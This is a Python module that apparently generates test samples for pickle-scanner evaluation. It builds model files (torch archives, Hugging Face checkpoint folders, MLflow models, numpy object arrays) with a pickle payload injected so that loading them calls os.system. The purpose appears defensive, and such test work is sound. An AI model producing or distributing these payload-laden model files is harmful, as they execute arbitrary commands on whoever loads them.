"""Class 6 — pickles inside other containers and folders.

Protocol 0/1 pickles in torch archives; legacy (non-zip) torch files, whose five stacked
pickles (magic number, protocol, sys_info, the object, storage keys) torch reads one after
the other (payload in the first, the third, the fourth; a protocol 0 magic number); the
pre-1.0 tar layout (``storages``, ``tensors``, ``pickle`` members, each read with
pickle.load); a raw protocol-0 ``pytorch_model.bin``; pickles inside Hugging Face folders
(``training_args.bin``, ``optimizer.pt``, ``rng_state.pth``, a sharded
``pytorch_model-00001-of-00002.bin`` next to a ``model.safetensors``); MLflow models
(``python_model.pkl`` of a pyfunc model, cloudpickled; the sklearn flavour's ``model.pkl``);
numpy ``.npy``/``.npz`` object arrays (``np.load(allow_pickle=True)``).
"""

from __future__ import annotations

import io
import json
import pickle
import struct
import tarfile
from pathlib import Path

from . import MLFLOW, NUMPY, TORCH, Entry, base, in_folder, pk


def evil_p0() -> bytes:
    return pk.system(protocol=0)


def legacy_with(index: int, payload: bytes | None = None, replace: bytes | None = None,
                protocol: int = 2) -> bytes:
    """The legacy torch file with its ``index``-th stacked pickle injected or replaced."""
    data = base.torch_legacy(protocol)
    pickles, rest = base.split_pickles(data, 5)
    if replace is not None:
        pickles[index] = replace
    else:
        pickles[index] = pk.inject(pickles[index], payload or pk.system(protocol=2))
    return b"".join(pickles) + rest


def tar_layout(where: str) -> bytes:
    """The pre-1.0 torch tar layout with no storages and an empty dict, the payload in the
    member ``where``."""
    members = {
        "sys_info": pickle.dumps({"protocol_version": 1001, "little_endian": True,
                                  "type_sizes": {"short": 2, "int": 4, "long": 4}}, 2),
        "storages": pickle.dumps(0, 2) + pickle.dumps([], 2),
        "tensors": pickle.dumps(0, 2),
        "pickle": pickle.dumps({}, 2),
    }
    members[where] = pk.inject(members[where], pk.system(protocol=2))
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            info.mtime = 0
            tar.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def safetensors_bytes() -> bytes:
    import numpy as np
    from safetensors.numpy import save

    return save({"embeddings.weight": np.zeros((4, 4), dtype=np.float32)})


def hf_folder(p: Path, files: dict[str, bytes]) -> None:
    p.mkdir(parents=True, exist_ok=True)
    (p / "config.json").write_text(json.dumps({"model_type": "bert", "hidden_size": 4}))
    for name, data in files.items():
        base.write(p / name, data)


def torch_dict_payload(obj, protocol: int = 2) -> bytes:
    """A torch zip of ``obj`` (a plain dict) with the payload spliced into data.pkl."""
    import torch

    buf = io.BytesIO()
    torch.save(obj, buf, pickle_protocol=protocol)
    d = base.zip_members(buf.getvalue())
    items = [(n, pk.inject(v, pk.system()) if n.endswith("/data.pkl") else v) for n, v in d]
    return base.build_zip(items)


def npy_object(payload_protocol: int = 2) -> bytes:
    import numpy as np

    buf = io.BytesIO()
    np.save(buf, np.array([1, "x", None], dtype=object), allow_pickle=True)
    npy = buf.getvalue()
    hlen = struct.unpack("<H", npy[8:10])[0]
    return npy[:10 + hlen] + pk.inject(npy[10 + hlen:], pk.system(protocol=payload_protocol))


def entries() -> list[Entry]:
    out: list[Entry] = []

    def add(variant: str, rel: str, make, loader: str, note: str, quick: bool = False):
        out.append(Entry("6-containers", variant, f"6-containers/{rel}", make, loader, note,
                         quick=quick))

    def zip_p0(p: Path) -> None:
        # torch archive whose data.pkl is a protocol-0 pickle (payload + an empty dict)
        body = pk.whole(evil_p0() + pk.POP + pk.MARK + pk.DICT, 0)
        base.write(p, base.torch_zip_with(lambda n, d: [(n, body)]))

    add("zip-pt-protocol0-data.pkl", "zip-protocol0.pt", zip_p0, TORCH,
        "torch archive whose data.pkl is protocol 0 (text opcodes, no PROTO)", quick=True)

    def zip_p1(p: Path) -> None:
        payload = pk.call(pk.glob0("os", "system"), pk.binunicode(pk.SH), protocol=1)
        base.write(p, base.torch_zip_with(lambda n, d: [(n, pk.inject(d, payload))],
                                          protocol=1))

    add("zip-pt-protocol1-data.pkl", "zip-protocol1.pt", zip_p1, TORCH,
        "torch.save(pickle_protocol=1) archive with a protocol 1 payload")
    add("legacy-pt-payload-in-magic", "legacy-magic.pt",
        lambda p: base.write(p, legacy_with(0)), TORCH,
        "legacy torch file (_use_new_zipfile_serialization=False): payload in the first "
        "stacked pickle (the magic number)", quick=True)
    add("legacy-pt-payload-in-sys_info", "legacy-sysinfo.pt",
        lambda p: base.write(p, legacy_with(2)), TORCH,
        "legacy torch file: payload in the third pickle (sys_info)")
    add("legacy-pt-payload-in-object", "legacy-object.pt",
        lambda p: base.write(p, legacy_with(3)), TORCH,
        "legacy torch file: payload in the fourth pickle (the saved object)")
    magic0 = pk.whole(evil_p0() + pk.POP + b"L119547037146038801333356L\n", 0)
    add("legacy-pt-protocol0-magic", "legacy-p0-magic.pt",
        lambda p: base.write(p, legacy_with(0, replace=magic0)), TORCH,
        "legacy torch file whose magic-number pickle is protocol 0 (LONG ...L) with the "
        "payload")
    add("legacy-pt-protocol0-object", "legacy-p0-object.bin",
        lambda p: base.write(p, legacy_with(3, payload=evil_p0(), protocol=1)), TORCH,
        "legacy torch file saved with pickle_protocol=1, protocol 0 payload in the object "
        "pickle, named .bin")

    def raw_bin(p: Path) -> None:
        p.mkdir(parents=True, exist_ok=True)
        (p / "config.json").write_text('{"model_type": "bert"}\n')
        base.write(p / "pytorch_model.bin", pk.whole(evil_p0() + pk.POP + pk.MARK + pk.DICT, 0))

    add("raw-protocol0-pytorch_model.bin", "raw-p0-bin", raw_bin,
        in_folder(TORCH, "pytorch_model.bin"),
        "a raw protocol-0 pickle as pytorch_model.bin (torch.load reads it as legacy: the "
        "first pickle.load runs it)")
    for where in ("storages", "tensors", "pickle"):
        add(f"tar-layout-payload-in-{where}", f"tar-{where}.pt",
            lambda p, where=where: base.write(p, tar_layout(where)), TORCH,
            f"pre-1.0 torch tar layout, payload in the '{where}' member",
            quick=where == "storages")

    # Hugging Face folders: config.json + model.safetensors + a pickle
    def hf(name: str, data_fn):
        def make(p: Path) -> None:
            hf_folder(p, {"model.safetensors": safetensors_bytes(), name: data_fn()})
        return make

    add("hf-training_args.bin", "hf-training-args", hf("training_args.bin",
        lambda: torch_dict_payload({"output_dir": "out", "learning_rate": 5e-5})),
        in_folder(TORCH, "training_args.bin"),
        "Hugging Face folder: training_args.bin (a torch archive) next to model.safetensors",
        quick=True)
    add("hf-optimizer.pt", "hf-optimizer", hf("optimizer.pt",
        lambda: torch_dict_payload({"state": {}, "param_groups": [{"lr": 0.1}]})),
        in_folder(TORCH, "optimizer.pt"), "Hugging Face checkpoint folder: optimizer.pt")
    add("hf-rng_state.pth", "hf-rng-state", hf("rng_state.pth",
        lambda: torch_dict_payload({"python": 0, "numpy": 0})),
        in_folder(TORCH, "rng_state.pth"), "Hugging Face checkpoint folder: rng_state.pth")

    def sharded(p: Path) -> None:
        import torch

        def shard(evil: bool) -> bytes:
            buf = io.BytesIO()
            torch.save({"encoder.weight": torch.zeros(2, 2)}, buf)
            items = base.zip_members(buf.getvalue())
            if evil:
                items = [(n, pk.inject(v, pk.system()) if n.endswith("/data.pkl") else v)
                         for n, v in items]
            return base.build_zip(items)

        index = {"metadata": {"total_size": 32},
                 "weight_map": {"encoder.weight": "pytorch_model-00001-of-00002.bin",
                                "decoder.weight": "pytorch_model-00002-of-00002.bin"}}
        hf_folder(p, {"model.safetensors": safetensors_bytes(),
                      "pytorch_model-00001-of-00002.bin": shard(True),
                      "pytorch_model-00002-of-00002.bin": shard(False),
                      "pytorch_model.bin.index.json": json.dumps(index).encode()})

    add("hf-sharded-pytorch_model-00001", "hf-sharded", sharded,
        in_folder(TORCH, "pytorch_model-00001-of-00002.bin"),
        "sharded pytorch_model-00001-of-00002.bin (malicious) next to a model.safetensors")

    # MLflow
    def mlflow_pyfunc(p: Path) -> None:
        import cloudpickle
        import mlflow.pyfunc

        from . import _mlflow_model

        cloudpickle.register_pickle_by_value(_mlflow_model)
        mlflow.pyfunc.save_model(str(p), python_model=_mlflow_model.Echo())
        pkl = p / "python_model.pkl"
        pkl.write_bytes(pk.inject(pkl.read_bytes(), pk.system()))

    add("mlflow-pyfunc-python_model.pkl", "mlflow-pyfunc", mlflow_pyfunc, MLFLOW,
        "MLflow pyfunc model folder: python_model.pkl (cloudpickle) with the payload",
        quick=True)

    def mlflow_sklearn(p: Path) -> None:
        import mlflow.sklearn

        mlflow.sklearn.save_model(base.sk_model("lr"), str(p),
                                  serialization_format="pickle")
        pkl = p / "model.pkl"
        pkl.write_bytes(pk.inject(pkl.read_bytes(), pk.system()))

    add("mlflow-sklearn-model.pkl", "mlflow-sklearn", mlflow_sklearn, MLFLOW,
        "MLflow sklearn-flavour folder: model.pkl with the payload (pyfunc.load_model)")

    # numpy
    add("npy-object-array", "object.npy", lambda p: base.write(p, npy_object()), NUMPY,
        ".npy object array whose pickle runs os.system (np.load(allow_pickle=True))",
        quick=True)

    def npz(compressed: bool):
        def make(p: Path) -> None:
            import zipfile

            import numpy as np

            buf = io.BytesIO()
            np.save(buf, np.arange(4.0))
            items = [("weights.npy", buf.getvalue()), ("meta.npy", npy_object())]
            method = zipfile.ZIP_DEFLATED if compressed else zipfile.ZIP_STORED
            base.write(p, base.build_zip(items, method))
        return make

    add("npz-object-member", "object.npz", npz(False), NUMPY,
        ".npz whose second member is an object array with the payload")
    add("npz-compressed-object-member", "object-compressed.npz", npz(True), NUMPY,
        "np.savez_compressed-style (deflated) .npz with an object-array member")
    add("npy-object-protocol0", "object-p0.npy",
        lambda p: base.write(p, npy_object(payload_protocol=0)), NUMPY,
        ".npy object array, protocol 0 payload opcodes")
    return out
